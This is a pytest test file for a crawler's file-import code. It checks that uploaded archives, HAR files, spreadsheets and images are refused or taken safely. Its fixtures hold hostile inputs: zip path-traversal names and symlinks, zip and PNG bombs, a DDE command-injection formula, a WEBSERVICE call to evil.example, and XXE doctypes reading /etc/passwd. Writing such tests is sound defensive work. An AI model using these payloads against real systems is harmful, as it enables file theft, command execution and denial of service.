"""Group M of the numbered bad inputs: files that people hand in. Refused with a reason or listed, nothing half-kept,
bounded in memory and time, and the next good file is taken.
"""

from __future__ import annotations

import io
import json
import random
import resource
import struct
import time
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from crawlers.agreement import audit
from crawlers.imports import Handed, Preview, Refused, tips
from crawlers.imports.longjson import PIECE_BYTES, LongJson
from tests.crawlers.imports.packing import PAGE, RawZip, har, har_entry, packed, wacz, warc, zlib_gzip
from tests.crawlers.keeping import House, house

MEMORY_MB, SECONDS = 64, 30


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[House]:
    """A data directory; afterwards nothing in it is half, and a good file is still taken."""
    with house(tmp_path / "data") as made:
        yield made
        (made.data / "good.wacz").write_bytes(wacz({"archive/good.warc.gz": zlib_gzip(warc("https://good.example/"))}))
        assert len(made.intake().take(made.data / "good.wacz").captures) == 1
        assert audit(made.store, made.archive) == []


@pytest.fixture(scope="module")
def empty(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    """A data directory into which nothing ever gets."""
    with house(tmp_path_factory.mktemp("empty") / "data") as made:
        yield made


@contextmanager
def bounded(memory_mb: int = MEMORY_MB, seconds: float = SECONDS) -> Iterator[None]:
    before, started = _peak_mb(), time.monotonic()
    yield
    assert _peak_mb() - before <= memory_mb
    assert time.monotonic() - started <= seconds


def _peak_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def put(desk: House, name: str, data: bytes) -> Path:
    path = desk.data / name
    path.write_bytes(data)
    return path


def refused(desk: House, name: str, data: bytes, handed: Handed | None = None, **limits: int) -> Refused:
    """Why `take` refuses it; `preview` says the same, and nothing was kept."""
    path = put(desk, name, data)
    intake = desk.intake(**limits)
    with bounded(), pytest.raises(Refused) as caught:
        intake.take(path, handed)
    error = caught.value
    with bounded():
        shown = intake.preview(path, handed)
    assert shown.refused is not None
    assert shown.refused.code == error.problem.code
    assert_nothing_kept(desk)
    assert desk.intake().preview(put(desk, "good.wacz", wacz())).pages == 1
    path.unlink()
    for language in ("zh", "en"):
        assert error.told(language).startswith(name)
        assert len(error.told(language)) > len(name) + 10
    return error


def assert_nothing_kept(desk: House) -> None:
    assert list(desk.store.captures()) == []
    with desk.store.read() as connection:
        assert tips.listed(connection) == []
    assert not list(desk.archive.root.glob("*")) if desk.archive.root.exists() else True
    assert not list((desk.data / "blobs").rglob("*")) if (desk.data / "blobs").exists() else True
    assert not [path for path in desk.data.iterdir() if path.name.startswith(("import-", "tmp"))]


# M1: names that lead outside


@pytest.mark.parametrize(
    "name", [b"../evil.warc.gz", b"archive/../../evil", b"/etc/passwd", b"C:\\evil", b"C:evil", b"a\\..\\b", b"a\nb"]
)
def test_m1_a_name_that_leads_outside(empty: House, name: bytes) -> None:
    zipped = RawZip()
    zipped.file(b"archive/data.warc.gz", zlib_gzip(warc()))
    zipped.file(name, b"x")
    assert refused(empty, "x.wacz", zipped.end()).problem.code == "zip_name"


def test_m1_a_symbolic_link(empty: House) -> None:
    zipped = RawZip()
    zipped.file(b"archive/data.warc.gz", b"/etc/passwd", mode=0o120777)
    assert refused(empty, "x.wacz", zipped.end()).problem.code == "zip_symlink"


# M2: bombs


def test_m2_a_bomb_is_refused_before_it_is_unpacked(empty: House) -> None:
    zipped = packed({"archive/data.warc.gz": bytes(60 << 20)})
    assert len(zipped) < 100_000
    assert refused(empty, "42.wacz", zipped, max_unpacked_bytes=10 << 20).problem.code == "zip_size"


def test_m2_a_declared_size_that_lies_is_counted(empty: House) -> None:
    content = bytes(40 << 20)
    zipped = RawZip()
    zipped.file(b"archive/data.warc.gz", content, method=8, size=1000)
    assert refused(empty, "x.wacz", zipped.end(), max_unpacked_bytes=10 << 20).problem.code == "zip_lie"


def test_m2_overlapping_entries(empty: House) -> None:
    zipped = RawZip()
    inner = zlib_gzip(warc())
    at = zipped.local(b"archive/a.warc.gz", inner)
    for number in range(40):
        name = f"archive/{number}.warc.gz".encode()
        zipped.entry(name, at, packed=len(inner), size=len(inner))
    assert refused(empty, "x.wacz", zipped.end()).problem.code in ("zip_overlap", "zip_lie")


def test_m2_an_entry_that_reaches_into_the_next(empty: House) -> None:
    zipped = RawZip()
    at = zipped.local(b"archive/a.warc.gz", b"1234")
    zipped.file(b"archive/b.warc.gz", b"5678")
    zipped.entry(b"archive/a.warc.gz", at, packed=60, size=60)
    assert refused(empty, "x.wacz", zipped.end()).problem.code == "zip_overlap"


@pytest.mark.parametrize("said", [None, 3])
def test_m2_a_million_entries_are_counted_without_being_held(empty: House, said: int | None) -> None:
    name = b"archive/a"
    one = struct.pack("<4s6H3L5H2L", b"PK\1\2", 0x0314, 20, 0, 0, 0, 33, 0, 0, 0, len(name), 0, 0, 0, 0, 0, 0) + name
    zipped = RawZip()
    zipped.local(name)
    zipped.central, zipped.count = one * 300_000, 300_000 & 0xFFFF
    error = refused(empty, "x.wacz", zipped.end(count=said))
    assert error.problem.code in ("zip_entries", "zip_broken")


def test_m2_a_gzip_bomb_in_a_warc(desk: House, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("crawlers.salvage.records.__kwdefaults__", {"max_record_bytes": 1 << 20})
    bomb = zlib_gzip(warc("https://bomb.example/", "x" * (40 << 20)))
    path = put(desk, "x.warc.gz", zlib_gzip(warc()) + bomb)
    with bounded(memory_mb=160):
        report = desk.intake().take(path)
    assert (len(report.captures), [one.code for one in report.damaged]) == (1, ["damaged"])


# M3: encryption, ZIP64, duplicates


def test_m3_an_encrypted_entry(empty: House) -> None:
    zipped = RawZip()
    zipped.file(b"archive/data.warc.gz", b"secret", flags=1)
    error = refused(empty, "x.wacz", zipped.end())
    assert error.problem.code == "zip_encrypted"
    assert "密码" in error.told("zh")


def test_m3_a_zip64_size_that_lies(empty: House) -> None:
    zipped = RawZip()
    inner = zlib_gzip(warc())
    at = zipped.local(b"archive/data.warc.gz", inner)
    extra = struct.pack("<2H2Q", 1, 16, 1 << 40, len(inner))
    zipped.entry(b"archive/data.warc.gz", at, packed=len(inner), size=0xFFFFFFFF, extra=extra)
    assert refused(empty, "x.wacz", zipped.end()).problem.code == "zip_size"
    zipped = RawZip()
    at = zipped.local(b"archive/data.warc.gz", inner)
    extra = struct.pack("<2H2Q", 1, 16, len(inner) + 1, len(inner))
    zipped.entry(b"archive/data.warc.gz", at, packed=len(inner), size=0xFFFFFFFF, extra=extra)
    assert refused(empty, "y.wacz", zipped.end()).problem.code in ("zip_lie", "zip_broken")


def test_m3_a_zip64_end_that_is_not_there(empty: House) -> None:
    zipped = RawZip()
    zipped.file(b"archive/data.warc.gz", b"x")
    locator = struct.pack("<4sLQL", b"PK\6\7", 0, 5, 1)
    assert refused(empty, "x.wacz", zipped.end(tail=locator)).problem.code == "zip_broken"


@pytest.mark.parametrize("second", [b"archive/data.warc.gz", b"archive/DATA.warc.gz"])
def test_m3_two_entries_of_one_name(empty: House, second: bytes) -> None:
    zipped = RawZip()
    zipped.file(b"archive/data.warc.gz", zlib_gzip(warc()))
    zipped.file(second, zlib_gzip(warc("https://other.example/")))
    assert refused(empty, "x.wacz", zipped.end()).problem.code == "zip_duplicate"


def test_m3_an_unknown_compression_and_a_name_that_differs_in_its_own_header(empty: House) -> None:
    zipped = RawZip()
    zipped.file(b"archive/data.warc.gz", b"x", method=99)
    assert refused(empty, "x.wacz", zipped.end()).problem.code == "zip_method"
    zipped = RawZip()
    at = zipped.local(b"archive/other.warc.gz", b"x")
    zipped.entry(b"archive/data.warc.gz", at, packed=1, size=1)
    assert refused(empty, "y.wacz", zipped.end()).problem.code == "zip_lie"


@pytest.mark.parametrize("cut", [3, 30, 90])
def test_m3_a_zip_that_ends_early(empty: House, cut: int) -> None:
    assert refused(empty, "x.wacz", wacz()[:-cut]).problem.code == "zip_broken"


# M4: a manifest that does not agree


CHANGED = {"archive/data.warc.gz": zlib_gzip(warc(body=PAGE.replace("查询", "办理")))}
UNPROVEN: dict[str, tuple[Callable[[], bytes], str]] = {
    "a changed archive": (lambda: wacz(changed=CHANGED), "wacz_digest"),
    "a changed list of pages": (lambda: wacz(changed={"pages/pages.jsonl": b"other"}), "wacz_digest"),
    "an archive put in later": (lambda: wacz(unlisted={"archive/more.warc.gz": zlib_gzip(warc())}), "wacz_unlisted"),
    "a changed manifest": (lambda: wacz(changed={"datapackage-digest.json": b'{"hash": "sha256:00"}'}), "wacz_digest"),
    "no manifest": (lambda: packed({"archive/data.warc.gz": zlib_gzip(warc())}), "wacz_manifest"),
    "a manifest that is no JSON": (lambda: wacz(changed={"datapackage.json": b"[" * 100_000}), "wacz_manifest"),
    "a manifest of another shape": (lambda: wacz(changed={"datapackage.json": b"[1]"}, digest=False), "wacz_manifest"),
}


@pytest.mark.parametrize("how", UNPROVEN)
def test_m4_what_does_not_agree_is_kept_as_unverified(desk: House, how: str) -> None:
    make, code = UNPROVEN[how]
    with bounded():
        report = desk.intake().take(put(desk, "x.wacz", make()))
    assert report.provenance == "unverified"
    assert code in [one.code for one in report.damaged]
    assert all("provenance_unverified" in capture.flags for capture in desk.store.captures())
    assert "未核验" in report.damaged[0].told("zh")


# M5: damaged WARC files (more of them in tests/crawlers/imports/test_warc.py)


def test_m5_good_records_are_kept_and_bad_places_listed(desk: House) -> None:
    one, two, three = (zlib_gzip(warc(f"https://zs.example/{number}")) for number in range(3))
    report = desk.intake().take(put(desk, "x.warc.gz", one + two[:-30] + three))
    assert [capture.url[-1] for capture in desk.store.captures()] == ["0", "2"]
    assert [(problem.place.kind, problem.place.value) for problem in report.damaged] == [("byte", len(one))]


# M6: HAR


def long_har(size: int, body: str = "") -> Iterator[bytes]:
    """At least `size` bytes of HAR, a piece at a time."""
    yield b'{"log": {"version": "1.2", "entries": ['
    entry = json.dumps(har_entry(mime="image/png", text="A" * 60_000)).encode()
    for number in range(size // len(entry) + 1):
        yield (b"," if number else b"") + entry + b"\n"
    yield b"," + json.dumps(har_entry("https://zs.example/last", body or PAGE)).encode() + b"]}}"


def write(path: Path, pieces: Iterator[bytes]) -> Path:
    with path.open("wb") as file:
        file.writelines(pieces)
    return path


@pytest.mark.parametrize("size", [24 << 20, pytest.param(2 << 30, marks=pytest.mark.long)])
def test_m6_a_long_har_is_streamed(desk: House, size: int) -> None:
    path = write(desk.data / "long.har", long_har(size))
    with bounded(memory_mb=48, seconds=60 + size / 5e6):
        report = desk.intake(keep_original_bytes=0).take(path)
    assert len(report.captures) == 1
    assert report.skipped["image/png"] > 300


def test_m6_one_body_over_the_limit_is_left_out_and_the_rest_taken(desk: House) -> None:
    entries = [har_entry(text="<p>" + '\\"高' * 3_000_000), har_entry("https://zs.example/2")]
    path = put(desk, "x.har", har(entries))
    before = _peak_mb()
    report = desk.intake(max_body_bytes=1 << 20, keep_original_bytes=0).take(path)
    assert _peak_mb() - before <= MEMORY_MB
    assert [capture.url for capture in desk.store.captures()] == ["https://zs.example/2"]
    assert [(one.code, str(one.place.value)[:36]) for one in report.damaged] == [
        ("har_body", "log.entries[0].response.content.text"),
    ]


def test_m6_no_string_is_held_that_is_over_the_limit(desk: House) -> None:
    path = put(desk, "x.har", har([har_entry(text="<p>" + '\\"高' * 300_000)]))
    json_events = LongJson(path, max_string_bytes=1 << 16)
    longest = max(len(value) for _, event, value in json_events.events() if event == "string")
    assert longest <= (1 << 16) + PIECE_BYTES
    assert json_events.cut


@pytest.mark.parametrize(
    ("changed", "code", "place"),
    [
        ({"request__url": None}, "har_shape", "log.entries[0].request.url"),
        ({"response__status": None}, "har_shape", "log.entries[0].response.status"),
        ({"startedDateTime": None}, "har_shape", "log.entries[0].startedDateTime"),
        ({"request__url": "chrome-extension://x"}, "har_url", "log.entries[0].request.url"),
        ({"encoding": "base64", "text": "AAAA<>AAAA"}, "har_base64", "log.entries[0].response.content.text"),
    ],
)
def test_m6_a_bad_entry_is_listed_by_path_and_line(desk: House, changed: dict[str, Any], code: str, place: str) -> None:
    path = put(desk, "x.har", har([har_entry(**changed), har_entry("https://zs.example/2")]))
    report = desk.intake().take(path)
    assert len(report.captures) == 1
    (problem,) = report.damaged
    assert (problem.code, str(problem.place.value).partition(" (line ")[0]) == (code, place)


@pytest.mark.parametrize(
    ("bad", "line"),
    [
        (har([har_entry()]).replace(b"1.2", b"\xff\xfe"), 3),
        (har([har_entry()])[:-40], None),
        (har([har_entry()]).replace(b'"entries"', b'"entries'), 8),
        (b'{"log": {"entries": [{"a": ' + b"[" * 200_000, 1),
    ],
)
def test_m6_what_is_no_json_is_refused_with_its_line(empty: House, bad: bytes, line: int | None) -> None:
    error = refused(empty, "x.har", bad)
    assert error.problem.code == "json_broken"
    if line:
        assert error.problem.place.value == line
    else:
        assert str(error.problem.fields["detail"])


def test_m6_a_har_of_nothing(empty: House) -> None:
    assert refused(empty, "x.har", b'{"log": {}}').problem.code == "har_no_entries"
    assert refused(empty, "y.har", har([har_entry(text=None)])).problem.code == "nothing"


# M7: CSV

TABLE = "网址,内容\nhttps://a.example/1,办证\nhttps://b.example/2,查询\n"
READ = [("https://a.example/1", "办证"), ("https://b.example/2", "查询")]


ENCODINGS = ("utf-8", "utf-8-sig", "gbk", "gb18030", "utf-16", "utf-16-le", "utf-16-be")
WRITTEN = [(encoding, mark, end) for encoding in ENCODINGS for mark in ",;\t|" for end in ("\n", "\r\n")]


def test_m7_encodings_and_separators_are_told_apart(desk: House) -> None:
    intake = desk.intake()
    for number, (encoding, delimiter, end) in enumerate(WRITTEN):
        text = TABLE.replace(",", delimiter).replace("\n", end) + end * number
        intake.take(put(desk, "x.csv", text.encode(encoding)))
        with desk.store.read() as connection:
            found = tips.listed(connection, after_id=2 * number)
        assert [(row.tip.url, row.tip.text) for row in found] == READ, (encoding, delimiter, end)


@pytest.mark.parametrize(
    ("data", "code", "line"),
    [
        (TABLE.encode() + b"https://c.example/\x00,x\n", "table_nul", 4),
        (TABLE.encode("gbk") + b"\xff\xff\x81\n", "table_encoding", 4),
        (TABLE.encode() + b'https://c.example/,"open\nhttps://d.example/,x\n', "table_quote", 4),
        (TABLE.encode() + b'https://c.example/,"a"b"\n', "table_quote", 4),
        (TABLE.encode() + b"https://c.example/," + b"x" * (10 << 20) + b"\n", "table_cell", 4),
        (TABLE.encode() + b'https://c.example/,"' + b"x\n" * (5 << 20) + b'"\n', "table_cell", 4),
        (b"x" * (10 << 20), "table_cell", 1),
        ("姓名,电话\n张,1\n".encode(), "table_no_link", None),
        (b"\x00" * 9000, "table_nul", 1),
        (TABLE.encode() * 300 + b"https://c.example/\x00,x\n", "table_nul", 901),
        (b"a," * (1 << 20), "table_cell", 1),
    ],
)
def test_m7_a_broken_table_is_refused_by_line(empty: House, data: bytes, code: str, line: int | None) -> None:
    error = refused(empty, "x.csv", data)
    assert (error.problem.code, error.problem.place.value or None) == (code, line)


def test_m7_rows_without_a_link_are_listed_and_what_they_say_is_kept(desk: House) -> None:
    report = desk.intake().take(put(desk, "x.csv", (TABLE + "无,加微信办电工证\n,\nnone,\n").encode()))
    assert [(one.code, one.place.value) for one in report.damaged] == [("row_no_link", 4), ("row_no_link", 6)]
    with desk.store.read() as connection:
        assert [row.tip.text for row in tips.listed(connection)] == ["办证", "查询", "无\n加微信办电工证"]


# U12: a list of a million links


def links(count: int) -> Iterator[bytes]:
    yield b"\xef\xbb\xbf"
    for number in range(count):
        yield f"https://site-{number % (count * 9 // 10)}.example/\r\n".encode()
    yield b"not a link\r\n\r\n"


@pytest.mark.parametrize("count", [10_000, pytest.param(1_000_000, marks=pytest.mark.long)])
def test_u12_a_long_list_is_streamed(desk: House, count: int) -> None:
    path = write(desk.data / "seeds.txt", links(count))
    with bounded(memory_mb=64, seconds=60 + count / 4000):
        report = desk.intake().take(path)
    assert (report.tips, report.duplicates) == (count * 9 // 10, count - count * 9 // 10)
    assert [(one.code, one.place.value) for one in report.damaged] == [("row_no_link", count + 1)]


# M8: XLSX


def book(rows: list[list[object]], edit: Callable[[Any], None] = lambda _: None) -> bytes:
    made = openpyxl.Workbook()
    for row in rows:
        made.active.append(row)
    edit(made.active)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def rezipped(data: bytes, **changed: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    return packed({**files, **{name.replace("__", "/").replace("_DOT_", "."): body for name, body in changed.items()}})


def sheet(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


ROWS: list[list[object]] = [
    ["涉案网址", "举报时间"],
    ["https://a.example/1", 46_000],
    ["https://b.example/2", 46_001.5],
]


def test_m8_values_only(desk: House) -> None:
    def edit(active: Any) -> None:
        active["A4"] = '=HYPERLINK("https://c.example/3","点击")'
        active["B4"] = '=WEBSERVICE("https://evil.example/")'
        active["C1"] = "=cmd|' /C calc'!A0"

    data = rezipped(book(ROWS, edit), xl__vbaProject_DOT_bin=b"macro", xl__externalLinks__externalLink1_DOT_xml=b"<x/>")
    desk.intake().take(put(desk, "x.xlsm", data))
    with desk.store.read() as connection:
        found = [(row.tip.url, row.tip.reported_at) for row in tips.listed(connection)]
    dated = [("https://a.example/1", "2025-12-09"), ("https://b.example/2", "2025-12-10 12:00")]
    assert found == [*dated, ("https://c.example/3", "")]
    assert "evil" not in repr(found)


def test_m8_links_behind_what_is_shown_are_read(desk: House) -> None:
    def edit(active: Any) -> None:
        active["A2"].hyperlink = "https://shop.example/1"
        active["B3"].hyperlink = "https://shop.example/2"
        active["A4"].hyperlink = "mailto:someone@shop.example"
        active["A5"].hyperlink = "https://shop.example/3"
        active["C2"].hyperlink = "https://of.a.person.example/"

    shown = [
        ["卖家昵称", "诉求内容", "来电人"],
        ["某店", "卖证", "张某"],
        ["乙店", "办证 打开"],
        ["丙店", "查"],
        [""],
    ]
    desk.intake().take(put(desk, "x.xlsx", book(shown, edit)))
    with desk.store.read() as connection:
        found = [(row.tip.url, row.tip.seller, row.tip.text) for row in tips.listed(connection)]
    assert found == [
        ("https://shop.example/1", "某店", "卖证"),
        ("https://shop.example/2", "乙店", "办证 打开"),
        ("", "丙店", "查"),
        ("https://shop.example/3", "", ""),
    ]


def test_m8_links_without_end_are_refused_and_do_not_pile_up(empty: House) -> None:
    xml = sheet(book(ROWS))
    cell = b'<row r="%d"><c r="A%d"><f>HYPERLINK("https://c.example/%d")</f><v>x</v></c></row>'
    rows = b"".join(cell % (n, n, n) for n in range(4, 30_000))
    data = rezipped(book(ROWS), xl__worksheets__sheet1_DOT_xml=xml.replace(b"</sheetData>", rows + b"</sheetData>"))
    with bounded():
        assert refused(empty, "x.xlsx", data, max_rows=20_000).problem.code == "table_rows"


@pytest.mark.parametrize(
    "declared",
    [
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>',
        b'<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_m8_entities_and_outside_references(empty: House, declared: bytes, encoding: str) -> None:
    xml = sheet(book(ROWS)).partition(b"<worksheet")
    body = (declared + xml[1] + xml[2]).decode().encode(encoding)
    head = f'<?xml version="1.0" encoding="{encoding}"?>'.encode(encoding)
    data = rezipped(book(ROWS), xl__worksheets__sheet1_DOT_xml=head + body)
    assert refused(empty, "x.xlsx", data).problem.code == "xlsx_xml"


def test_m8_a_million_empty_rows(desk: House) -> None:
    xml = sheet(book(ROWS))
    rows = b"".join(b'<row r="%d"/>' % number for number in range(4, 200_000))
    claimed = xml.replace(b"</sheetData>", rows + b'<row r="1048576"/></sheetData>').replace(
        b'<dimension ref="A1:B3" />', b'<dimension ref="A1:XFD1048576"/>'
    )
    data = rezipped(book(ROWS), xl__worksheets__sheet1_DOT_xml=claimed)
    with bounded():
        report = desk.intake().take(put(desk, "x.xlsx", data))
    assert (report.tips, report.damaged) == (2, ())


def test_m8_a_cell_in_the_last_column_of_every_row(empty: House) -> None:
    made = book([*ROWS, *([f"https://c.example/{number}"] for number in range(60))])
    xml = sheet(made)
    rows = b"".join(b'<row r="%d"><c r="XFD%d"><v>1</v></c></row>' % (n, n) for n in range(100, 20_000))
    data = rezipped(made, xl__worksheets__sheet1_DOT_xml=xml.replace(b"</sheetData>", rows + b"</sheetData>"))
    assert refused(empty, "x.xlsx", data).problem.code == "table_columns"


def test_m8_what_is_no_workbook(empty: House) -> None:
    assert refused(empty, "x.xlsx", packed({"[Content_Types].xml": b"<Types/>"})).problem.code == "xlsx_broken"
    assert refused(empty, "y.xlsx", rezipped(book(ROWS), xl__workbook_DOT_xml=b"<a")).problem.code == "xlsx_broken"
    error = refused(empty, "z.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))
    assert error.problem.code == "xls_old"
    assert "xlsx" in error.told("zh")
    bomb = rezipped(book(ROWS), xl__sharedStrings_DOT_xml=b"<sst>" + b" " * (8 << 20) + b"</sst>")
    assert refused(empty, "b.xlsx", bomb, max_shared_strings_bytes=1 << 20).problem.code == "zip_size"


# M9: the same file twice

TWICE: dict[str, Callable[[], bytes]] = {
    "x.warc.gz": lambda: zlib_gzip(warc()),
    "x.wacz": wacz,
    "x.har": lambda: har([har_entry()]),
    "x.csv": lambda: TABLE.encode(),
    "x.xlsx": lambda: book(ROWS),
}


@pytest.mark.parametrize("name", TWICE)
def test_m9_the_same_file_twice_changes_nothing(desk: House, name: str) -> None:
    path = put(desk, name, TWICE[name]())
    first = desk.intake().take(path)
    before = _rows(desk)
    again = desk.intake().take(path, Handed(name="又一次.bin"))
    assert (again.captures, again.tips, again.already != "") == ((), 0, True)
    assert (again.known, again.duplicates) == (len(first.captures), first.tips)
    assert _rows(desk) == before


def _rows(desk: House) -> list[int]:
    from sqlalchemy import func, select

    from crawlers.tables import metadata

    with desk.store.read() as connection:
        return [connection.scalar(select(func.count()).select_from(table)) or 0 for table in metadata.sorted_tables]


# M10: headers

HEADED: list[list[object]] = [
    ["市12345热线转办线索汇总表(2026年11月)", None, None, None],
    ["序号", "线索", None, None],
    [None, "涉案网址(必填)", "诉求内容", "来电人"],
    [1, "www.a.example", "说能查到", "张某"],
]


def test_m10_a_merged_header_is_read_and_shown_before_anything_is_written(desk: House) -> None:
    path = put(desk, "x.xlsx", book(HEADED, lambda active: active.merge_cells("A1:D1")))
    shown = desk.intake().preview(path)
    assert [(one.header, one.field) for one in shown.columns] == [
        ("序号", "ignored"),
        ("涉案网址(必填)", "url"),
        ("诉求内容", "text"),
        ("来电人", "personal"),
    ]
    assert (shown.header_row, shown.links, shown.columns[3].samples) == (3, 1, ())
    assert_nothing_kept(desk)
    desk.intake().take(path)
    with desk.store.read() as connection:
        (row,) = tips.listed(connection)
    assert (row.tip.url, row.tip.text) == ("http://www.a.example/", "说能查到")
    assert "张某" not in (desk.data / "store.sqlite").read_bytes().decode("utf-8", "replace")


def test_m10_a_mapping_says_what_headers_do_not(desk: House) -> None:
    data = "甲,乙\n看这里 a.example 办证,b.example\n".encode()
    path = put(desk, "x.csv", data)
    intake = desk.intake()
    assert _fields(intake.preview(path)) == ["", "url"]
    mapped = Handed(mapping={"甲": "text", "2": ""})
    assert _fields(intake.preview(path, mapped)) == ["text", ""]
    for mapping, code in (({"丙": "url"}, "table_mapping"), ({"甲": "link"}, "table_field")):
        error = refused(desk, "x.csv", data, Handed(mapping=mapping))
        assert error.problem.code == code
        assert "甲" in error.told("zh") or "url" in error.told("zh")


def _fields(shown: Preview) -> list[str]:
    return [one.field for one in shown.columns]


# what is nothing at all


@pytest.mark.parametrize("data", [b"MZ\x90" + bytes(range(256)) * 40, b"%PDF-1.7\n\x00\xff", b"\x7fELF\x02\x01"])
def test_an_unknown_file_is_refused_with_what_would_be_taken(empty: House, data: bytes) -> None:
    error = refused(empty, "x.bin", data)
    assert error.problem.code == "unknown_format"
    assert "WACZ" in error.told("zh")


def test_a_file_over_the_limit_is_not_read(empty: House) -> None:
    assert refused(empty, "x.har", bytes(5000), max_file_bytes=1024).problem.code == "too_large"


@pytest.mark.parametrize("name", ["x.png", "x.jpg"])
def test_photos_that_are_none_or_far_too_large(empty: House, name: str) -> None:
    assert refused(empty, name, b"\x89PNG\r\n\x1a\n" + bytes(60)).problem.code == "photo_broken"
    head = struct.pack(">4s2L5B", b"IHDR", 20_000, 20_000, 8, 2, 0, 0, 0)
    import zlib

    bomb = b"\x89PNG\r\n\x1a\n" + struct.pack(">L", 13) + head + struct.pack(">L", zlib.crc32(head))
    bomb += struct.pack(">L4s", 64, b"IDAT") + bytes(68)
    assert refused(empty, name, bomb).problem.code == "photo_pixels"
    assert refused(empty, "x.heic", b"\x00\x00\x00\x18ftypheic" + bytes(60)).problem.code == "photo_kind"


NESTED = {
    "parts in parts": b"".join(
        b'Content-Type: multipart/related; boundary="b%d"\r\n\r\n--b%d\r\n' % (number, number) for number in range(3000)
    ),
    "messages in messages": b'Content-Type: multipart/related; boundary="b"\r\n\r\n--b\r\n'
    + b"Content-Type: message/rfc822\r\n\r\n" * 3000,
}


@pytest.mark.parametrize("how", NESTED)
def test_an_mhtml_of_many_storeys(empty: House, how: str) -> None:
    assert refused(empty, "x.mhtml", b"MIME-Version: 1.0\r\n" + NESTED[how]).problem.code == "mhtml_nested"


SEEDS: dict[str, Callable[[], bytes]] = {
    **TWICE,
    "gbk.csv": lambda: TABLE.encode("gbk"),
    "utf16.csv": lambda: TABLE.encode("utf-16"),
    "x.warc": lambda: warc() + warc("https://c.example/"),
    "x.html": lambda: b"<!doctype html><html>" + PAGE.encode(),
}


@pytest.mark.parametrize("rounds", [120, pytest.param(20_000, marks=pytest.mark.long)])
def test_whatever_is_changed_in_a_file_it_is_read_or_refused_by_name(empty: House, rounds: int) -> None:
    """Bytes changed, cut, put in and repeated; seeded, so that a failure can be repeated."""
    chance = random.Random(20261130)
    intake, seeds = empty.intake(), {name: make() for name, make in SEEDS.items()}
    for _ in range(rounds):
        name = chance.choice(list(seeds))
        path = put(empty, name, _changed(seeds[name], chance))
        shown = intake.preview(path, Handed(url="https://h.example/") if name.endswith("html") else None)
        assert shown.refused is None or shown.refused.told("zh")
    assert_nothing_kept(empty)


def _changed(data: bytes, chance: random.Random) -> bytes:
    made = bytearray(data)
    for _ in range(chance.choice((1, 1, 2, 5, 20))):
        at, how = chance.randrange(len(made)), chance.random()
        if how < 0.5:
            made[at] = chance.randrange(256)
        elif how < 0.7 and len(made) > 80:
            del made[at : at + chance.randrange(1, 40)]
        elif how < 0.85:
            made[at:at] = chance.randbytes(chance.randrange(1, 12))
        else:
            made[at:at] = made[at : at + chance.randrange(1, 60)]
    return bytes(made)
